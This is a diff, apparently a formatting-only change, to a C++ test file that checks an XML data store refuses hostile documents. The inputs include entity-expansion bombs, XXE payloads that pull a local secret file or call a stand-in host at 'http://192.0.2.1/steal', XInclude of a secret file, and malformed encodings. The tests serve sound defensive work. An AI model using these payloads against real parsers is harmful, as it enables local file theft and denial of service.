@@ -9,8 +9,8 @@
 #include <vector>
 
 #include "data/CatchStore.h"
-#include "data/XMLDataFile.h"
 #include "data/PeakMemory.h"
+#include "data/XMLDataFile.h"
 #include "support/TempProgramDir.h"
 
 namespace {
@@ -60,11 +60,13 @@ std::vector<CHostileCase> HostileDocuments(const std::string& dir)
     const std::string head = "<?xml version=\"1.0\"?>\n";
     return {
         {"quadratic blow-up: one 64 kB entity referenced 20000 times",
-         head + "<!DOCTYPE r [<!ENTITY big \"" + std::string(65536, 'x') + "\">]>\n<r><FishData><memo>" +
-             Repeat("&big;", 20000) + "</memo></FishData></r>"},
+         head + "<!DOCTYPE r [<!ENTITY big \"" + std::string(65536, 'x') +
+             "\">]>\n<r><FishData><memo>" + Repeat("&big;", 20000) + "</memo></FishData></r>"},
         {"external entity over the network",
-         head + "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://192.0.2.1/steal\">]>\n<r><memo>&x;</memo></r>"},
-        {"external DTD from a local file", head + "<!DOCTYPE r SYSTEM \"file://" + secret + "\">\n<r/>"},
+         head + "<!DOCTYPE r [<!ENTITY x SYSTEM "
+                "\"http://192.0.2.1/steal\">]>\n<r><memo>&x;</memo></r>"},
+        {"external DTD from a local file",
+         head + "<!DOCTYPE r SYSTEM \"file://" + secret + "\">\n<r/>"},
         {"external entity from a local file by relative name",
          head + "<!DOCTYPE r [<!ENTITY x SYSTEM \"secret.txt\">]>\n<r><memo>&x;</memo></r>"},
         {"parameter entity pulling in a DTD",
@@ -74,11 +76,14 @@ std::vector<CHostileCase> HostileDocuments(const std::string& dir)
         {"nesting a million deep", Repeat("<a>", 1000000) + Repeat("</a>", 1000000)},
         {"attribute-value nesting of entities without a DTD", "<r a=\"&x;&x;&x;\"/>"},
         {"unknown encoding", "<?xml version=\"1.0\" encoding=\"X-NO-SUCH-CODE\"?>\n<r/>"},
-        {"Shift_JIS declared, invalid bytes", "<?xml version=\"1.0\" encoding=\"Shift_JIS\"?>\n<r>\x82\x20\xff\xfc\x85</r>"},
-        {"UTF-8 overlong slash", std::string("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<r>\xc0\xaf</r>")},
+        {"Shift_JIS declared, invalid bytes",
+         "<?xml version=\"1.0\" encoding=\"Shift_JIS\"?>\n<r>\x82\x20\xff\xfc\x85</r>"},
+        {"UTF-8 overlong slash",
+         std::string("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<r>\xc0\xaf</r>")},
         {"UTF-8 surrogate", std::string("<r>\xed\xa0\x80</r>")},
         {"NUL byte inside", std::string("<r><memo>a\0b</memo></r>", 22)},
-        {"UTF-16 declared, single bytes given", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<r/>"},
+        {"UTF-16 declared, single bytes given",
+         "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<r/>"},
         {"two document elements", "<r/><r/>"},
         {"only a declaration", head},
     };
@@ -162,7 +167,8 @@ TEST_F(HostileXMLTest, FileCutOffAnywhereIsRefusedAndKept)
 TEST_F(HostileXMLTest, FileOverTheSizeCapIsRefusedUnread)
 {
     m_dir.WriteFile("Data/fish.xml", "<r>");
-    ASSERT_EQ(::truncate(m_path.c_str(), static_cast<off_t>(CXMLDataFile::kMaxXMLFileBytes) + 1), 0);
+    ASSERT_EQ(::truncate(m_path.c_str(), static_cast<off_t>(CXMLDataFile::kMaxXMLFileBytes) + 1),
+              0);
     struct stat before {};
     ASSERT_EQ(::stat(m_path.c_str(), &before), 0);
 
@@ -178,7 +184,8 @@ TEST_F(HostileXMLTest, FileOverTheSizeCapIsRefusedUnread)
     CCatchStore store(m_path);
     const CStoreResult added = store.AddTrip(SomeTrip());
     EXPECT_EQ(added.status, EStoreStatus::Unreadable);
-    EXPECT_NE(DescribeStoreResult(added, m_path).find("ファイルの読み込み失敗しました"), std::string::npos);
+    EXPECT_NE(DescribeStoreResult(added, m_path).find("ファイルの読み込み失敗しました"),
+              std::string::npos);
     struct stat after {};
     ASSERT_EQ(::stat(m_path.c_str(), &after), 0);
     EXPECT_EQ(after.st_size, before.st_size);
@@ -192,11 +199,12 @@ TEST_F(HostileXMLTest, FileOverTheSizeCapIsRefusedUnread)
 TEST_F(HostileXMLTest, XIncludeIsNotFollowedAndModestNestingWorks)
 {
     WriteFileBytes(m_dir.Path("Data/secret.txt"), "SECRET-CONTENT");
-    m_dir.WriteFile("Data/fish.xml",
-                    "<?xml version=\"1.0\"?>\n<r xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
-                    "<FishData><memo><xi:include href=\"secret.txt\" parse=\"text\"/></memo></FishData>" +
-                        Repeat("<a>", 200) + "<FishData><place>深い</place></FishData>" +
-                        Repeat("</a>", 200) + "</r>");
+    m_dir.WriteFile(
+        "Data/fish.xml",
+        "<?xml version=\"1.0\"?>\n<r xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
+        "<FishData><memo><xi:include href=\"secret.txt\" parse=\"text\"/></memo></FishData>" +
+            Repeat("<a>", 200) + "<FishData><place>深い</place></FishData>" + Repeat("</a>", 200) +
+            "</r>");
     CCatchStore store(m_path);
     std::vector<CTripRecord> trips;
     ASSERT_TRUE(store.ReadAllTrips(trips).ok());
